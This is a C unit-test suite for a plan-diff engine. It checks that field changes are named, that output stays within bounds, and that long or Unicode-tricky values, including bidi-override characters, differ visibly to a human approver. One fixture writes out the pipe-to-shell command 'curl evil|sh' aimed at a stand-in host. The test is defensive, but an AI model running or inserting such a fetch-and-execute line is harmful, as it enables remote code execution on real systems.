#include "engine/plan/diff.h"

#include "engine/base/limits.h"
#include "engine/base/mem.h"
#include "engine/base/str.h"
#include "engine/value/json.h"
#include "test/unit/suite.h"

static const struct value *parse(const char *text)
{
    const struct value *value = NULL;

    if (text)
        EXPECT_INT(json_read_str(text, &value, NULL), 0, text);
    return value;
}

static void names_fields(void)
{
    static const struct {
        const char *from, *to;
        const char *path, *shown_from, *shown_to; /* of the only difference; path NULL: none */
    } rows[] = {
        {"{\"a\":1}", "{\"a\":2}", "a", "1", "2"},
        {"{\"a\":1}", "{\"a\":1.0}", NULL, NULL, NULL},
        {"{\"a\":{\"b\":[1,2]}}", "{\"a\":{\"b\":[1,3]}}", "a.b[1]", "2", "3"},
        {"{\"a\":[1,2]}", "{\"a\":[1]}", "a[1]", "2", NULL},
        {"{}", "{\"a\":\"x\"}", "a", NULL, "\"x\""},
        {"{\"a\":1}", "{\"a\":\"\\u202e\\u009b\\u001b\"}", "a", "1", "\"\\u202e\\u009b\\u001b\""},
        {"{\"x\":{\"a.b/c\":1}}", "{\"x\":{\"a.b/c\":2}}", "x[a.b/c]", "1", "2"},
        {"{}", "{\"a\":null}", "a", NULL, "null"},
        {NULL, "{\"a\":null,\"b\":{\"c\":null,\"d\":1}}", "b.d", NULL, "1"},
        {"{\"a\":null,\"b\":1}", NULL, "b", "1", NULL},
    };

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        _cleanup_value_ const struct value *from = parse(rows[i].from), *to = parse(rows[i].to);
        struct diff diff;

        diff_values(from, to, &diff_brief, &diff);
        EXPECT_INT((long long)diff.total, rows[i].path ? 1 : 0,
                   rows[i].to ? rows[i].to : "deleted");
        if (diff.n_fields) {
            EXPECT_STR(diff.fields[0].path, rows[i].path, "path");
            EXPECT_STR(diff.fields[0].from, rows[i].shown_from, "from");
            EXPECT_STR(diff.fields[0].to, rows[i].shown_to, "to");
        }
        diff_done(&diff);
    }
}

/* A user's string may have any text. */
static void tells_unknown_values_from_their_text(void)
{
    _cleanup_value_ const struct value *unknown = value_pack("{s:u}", "a"),
                                       *again = value_pack("{s:u}", "a"),
                                       *text = value_pack("{s:s}", "a", VALUE_UNKNOWN_TEXT);
    struct diff diff;

    diff_values(unknown, again, &diff_brief, &diff);
    EXPECT_INT((long long)diff.total, 0, "unknown before and after");
    diff_done(&diff);
    diff_values(text, unknown, &diff_brief, &diff);
    EXPECT_INT((long long)diff.total, 1, "the text, and unknown");
    EXPECT_STR(diff.fields[0].from, "\"" VALUE_UNKNOWN_TEXT "\"", "the text, for people");
    EXPECT_STR(diff.fields[0].to, VALUE_UNKNOWN_TEXT, "unknown, for people");
    diff_done(&diff);
}

static void is_bounded(void)
{
    static const struct {
        const char *note;
        size_t key_bytes, n_fields, most, least;
    } rows[] = {
        {"short ones", 10, 300, LIMIT_DIFF_FIELDS, LIMIT_DIFF_FIELDS},
        {"below a long key", 100000, 300, 2, 1},
        {"below one that is too long", LIMIT_DIFF_BYTES + 1, 300, 0, 0},
    };

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        _cleanup_(value_builder_free_p) struct value_builder *b = value_builder_new();
        _cleanup_free_ char *above = NEW_ARRAY(char, rows[i].key_bytes + 1);
        _cleanup_value_ const struct value *from = value_pack("{}"), *to = NULL;
        struct diff diff;

        memset(above, 'k', rows[i].key_bytes);
        value_begin_object(b);
        value_key(b, above);
        value_begin_array(b);
        for (size_t j = 0; j < rows[i].n_fields; j++)
            value_add_int(b, (int64_t)j);
        value_end_array(b);
        value_end_object(b);
        value_builder_finish(b, &to, NULL);
        diff_values(from, to, &diff_brief, &diff);
        EXPECT_INT((long long)diff.total, (long long)rows[i].n_fields, rows[i].note);
        EXPECT(diff.n_fields <= rows[i].most && diff.n_fields >= rows[i].least, rows[i].note);
        diff_done(&diff);
    }
}

/* A person approves them: nobody fills them up before what is run. */
static void puts_labels_and_annotations_last(void)
{
    static const char *const paths[] = {"apiVersion",       "spec.image",
                                        "zeal.a",           "metadata.name",
                                        "metadata.uid",     "metadata.annotations.a",
                                        "metadata.labels.b"};
    _cleanup_value_ const struct value *to =
        parse("{\"apiVersion\":\"v1\",\"metadata\":{\"annotations\":{\"a\":\"1\"},\"labels\":{"
              "\"b\":\"2\"},"
              "\"name\":\"n\",\"uid\":\"u\"},\"spec\":{\"image\":\"evil\"},\"zeal\":{\"a\":1}}");
    struct diff diff;

    diff_values(NULL, to, &diff_brief, &diff);
    EXPECT_INT((long long)diff.n_fields, ARRAY_SIZE(paths), "all");
    for (size_t i = 0; i < diff.n_fields; i++)
        EXPECT_STR(diff.fields[i].path, paths[i], "in this order");
    diff_done(&diff);
}

static const struct value *script(size_t filler, const char *line)
{
    _cleanup_buf_ struct buf text = BUF_INIT;

    buf_add_str(&text, "#!/bin/sh\n# ");
    for (size_t i = 0; i < filler; i++)
        buf_add_str(&text, "-");
    buf_printf(&text, "\n%s", line);
    return value_pack("{s:s}", "run", text.data);
}

/* Whatever the bounds: two sides that differ never look the same. */
static void shows_where_long_values_differ(void)
{
    static const struct diff_bounds whole = {SIZE_MAX, 1u << 20, SIZE_MAX};
    static const struct {
        const struct diff_bounds *bounds;
        const char *from, *to, *shown_from, *shown_to;
    } rows[] = {
        {&diff_brief, "echo good", "curl evil|sh", "…319 bytes…echo good\"",
         "…319 bytes…curl evil|sh\""},
        {&whole, "echo good", "curl evil|sh", "…319 bytes…echo good\"",
         "…319 bytes…curl evil|sh\""},
        {&whole, "\\n\u202e", "\\n\u202d", "…319 bytes…\\\\n\\u202e\"",
         "…319 bytes…\\\\n\\u202d\""},
    };

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        _cleanup_value_ const struct value *from = script(303, rows[i].from),
                                           *to = script(303, rows[i].to);
        struct diff diff;

        diff_values(from, to, rows[i].bounds, &diff);
        EXPECT_INT((long long)diff.n_fields, 1, rows[i].to);
        EXPECT_STR(diff.fields[0].from, rows[i].shown_from, "from");
        EXPECT_STR(diff.fields[0].to, rows[i].shown_to, "to");
        diff_done(&diff);
    }
}

/* A long line, of which only the character at the end differs, or a part of that. */
static const struct value *ends_with(size_t filler, const char *character)
{
    _cleanup_buf_ struct buf text = BUF_INIT;

    buf_add_str(&text, "#!/bin/sh\n");
    for (size_t i = 0; i < filler; i++)
        buf_add_str(&text, "-");
    buf_add_str(&text, character);
    for (size_t i = 0; i < 300; i++)
        buf_add_str(&text, ".");
    return value_pack("{s:s}", "run", text.data);
}

static void shows_the_character_that_differs(void)
{
    static const struct {
        const char *from, *to;
    } rows[] = {
        {"a", "b"},
        {"\u20ac", "\u2190"},         /* the first byte is the same */
        {"\U0001f600", "\U00020600"}, /* and here */
        {"\U0001f600", "\U0001f601"}, /* all but the last */
        {"\u202e", "\u202d"},         /* shown as \u202e, and all but the last is the same */
        {"\u202e", "\xc2\x80"},
        {"\n", "\t"},
    };

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++)
        for (size_t filler = 180; filler <= 270; filler++) {
            _cleanup_value_ const struct value *from = ends_with(filler, rows[i].from),
                                               *to = ends_with(filler, rows[i].to);
            struct diff diff;

            diff_values(from, to, &diff_brief, &diff);
            EXPECT_INT((long long)diff.n_fields, 1, rows[i].to);
            EXPECT(!str_equal(diff.fields[0].from, diff.fields[0].to), diff.fields[0].to);
            diff_done(&diff);
        }
}

/* What differs in two places is shown from the first to the last of them. */
static void shows_all_that_differs_of_a_whole_plan(void)
{
    static const struct diff_bounds whole = {SIZE_MAX, 1u << 20, SIZE_MAX};
    _cleanup_buf_ struct buf before = BUF_INIT, after = BUF_INIT;
    _cleanup_value_ const struct value *from = NULL, *to = NULL;
    struct diff diff;

    for (size_t i = 0; i < 5000; i++) {
        buf_add_str(&before, i == 1000 ? "first" : i == 4000 ? "harmless" : "x");
        buf_add_str(&after, i == 1000 ? "second" : i == 4000 ? "evil" : "x");
    }
    from = value_pack("{s:s}", "a", before.data);
    to = value_pack("{s:s}", "a", after.data);
    diff_values(from, to, &whole, &diff);
    EXPECT(strstr(diff.fields[0].to, "second") && strstr(diff.fields[0].to, "evil"), "both");
    EXPECT(strlen(diff.fields[0].to) < 3500, "and not what is the same");
    diff_done(&diff);
    diff_values(NULL, to, &whole, &diff);
    EXPECT(strstr(diff.fields[0].to, "evil") != NULL, "a new value is shown whole");
    diff_done(&diff);
    diff_values(NULL, to, &diff_brief, &diff);
    EXPECT(str_has_suffix(diff.fields[0].to, "…and 4754 bytes"), diff.fields[0].to);
    diff_done(&diff);
}

SUITE(diff, TEST(names_fields), TEST(tells_unknown_values_from_their_text), TEST(is_bounded),
      TEST(puts_labels_and_annotations_last), TEST(shows_where_long_values_differ),
      TEST(shows_the_character_that_differs), TEST(shows_all_that_differs_of_a_whole_plan))
